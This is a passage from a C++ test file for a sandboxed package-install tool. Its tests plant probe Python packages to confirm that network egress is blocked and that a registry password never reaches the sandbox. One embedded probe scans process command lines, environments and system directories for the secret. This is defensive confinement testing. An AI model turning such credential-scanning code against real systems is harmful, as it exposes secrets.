                       "        results['index'] = repr(error)\n"
                       "    results['proxy'] = os.environ.get('HTTP_PROXY', '')\n"
                       "    return results")
            .arg(listener.port)
            .arg(hosts.join(QStringLiteral(", ")), index);
    makeFixture("python", probingSdist("llmsb_probe", probe), m_offline.filePath(QStringLiteral("simple/llmsb-probe")));
    const QJsonObject seen = installAndReadProbe("llmsb_probe", index);
    ASSERT_FALSE(seen.isEmpty());
    for (auto it = seen.begin(); it != seen.end(); ++it) {
        if (it.key() == QLatin1String("index")) {
            EXPECT_EQ(it.value().toString(), "reached") << "the registry itself stays reachable";
        } else if (it.key() == QLatin1String("proxy")) {
            EXPECT_TRUE(it.value().toString().startsWith("http://127.0.0.1:")) << it.value().toString().toStdString();
        } else {
            EXPECT_EQ(it.value().toString(), "blocked") << it.key().toStdString();
        }
    }
    EXPECT_EQ(listener.accepted, 0) << "nothing the package ran reached this host";
}

// An index that needs a login, named with the login in its URL: the egress proxy adds it to the install's requests,
// so the package code the install runs finds it nowhere in the builder — no command line, no environment, no file.
// The password has characters the proxy's configuration must escape. On Kubernetes too, where the proxy is a pod of
// its own: the index is reached only through it.
class RegistryLoginTest : public ConfinedInstallTest
{
};

TEST_P(RegistryLoginTest, aRegistryLoginNeverEntersTheInstallsSandbox)
{
    const QString secret = QStringLiteral("pa55%llmsb@4711");
    QDir(m_offline.path()).mkpath(QStringLiteral("simple/llmsb-login"));
    const QString url = serve(m_offline.path(), QStringLiteral("alice:") + secret);
    ASSERT_FALSE(url.isEmpty());
    // The probe's own source (which pip unpacks under /tmp) has the secret in hex only.
    const QString probe = QStringLiteral("    secret = bytes.fromhex('%1')\n"
                                         "    results = {'cmdline': 'absent', 'environ': 'absent', 'files': 'absent'}\n"
                                         "    for path in glob.glob('/proc/[0-9]*/cmdline') + "
                                         "glob.glob('/proc/[0-9]*/environ'):\n"
                                         "        try:\n"
                                         "            if secret in open(path, 'rb').read():\n"
                                         "                results[path.rsplit('/', 1)[1]] = 'found in ' + path\n"
                                         "        except OSError:\n"
                                         "            pass\n"
                                         "    for top in ('/sandbox', '/tmp', '/dev/shm', '/run', '/etc', '/home', "
                                         "'/root', '/var'):\n"
                                         "        for folder, _, names in os.walk(top):\n"
                                         "            for name in names:\n"
                                         "                path = os.path.join(folder, name)\n"
                                         "                try:\n"
                                         "                    if os.path.isfile(path) and secret in open(path, "
                                         "'rb').read():\n"
                                         "                        results['files'] = 'found in ' + path\n"
                                         "                except OSError:\n"
                                         "                    pass\n"
                                         "    return results")
                              .arg(QString::fromLatin1(secret.toUtf8().toHex()));
    makeFixture("python", probingSdist("llmsb_login", probe), m_offline.filePath(QStringLiteral("simple/llmsb-login")));
    const QString index =
        QString(url).replace(
            QStringLiteral("http://"),
            QStringLiteral("http://alice:%1@").arg(QString::fromLatin1(QUrl::toPercentEncoding(secret)))) +
        QStringLiteral("/simple/");
    const QJsonObject seen = installAndReadProbe("llmsb_login", index);
    EXPECT_EQ(seen.value("cmdline").toString().toStdString(), "absent");
    EXPECT_EQ(seen.value("environ").toString().toStdString(), "absent");
    EXPECT_EQ(seen.value("files").toString().toStdString(), "absent");
}

// Not rootless Podman: there containers reach no network on these machines (slirp4netns cannot open /dev/net/tun),
// so no install needs the proxy.
INSTANTIATE_TEST_SUITE_P(Backends, ConfinedInstallTest, ::testing::ValuesIn(test::backendNames()),
                         test::backendTestName);
INSTANTIATE_TEST_SUITE_P(Backends, RegistryLoginTest, ::testing::ValuesIn(test::backendNamesWithKubernetes()),
                         test::backendTestName);
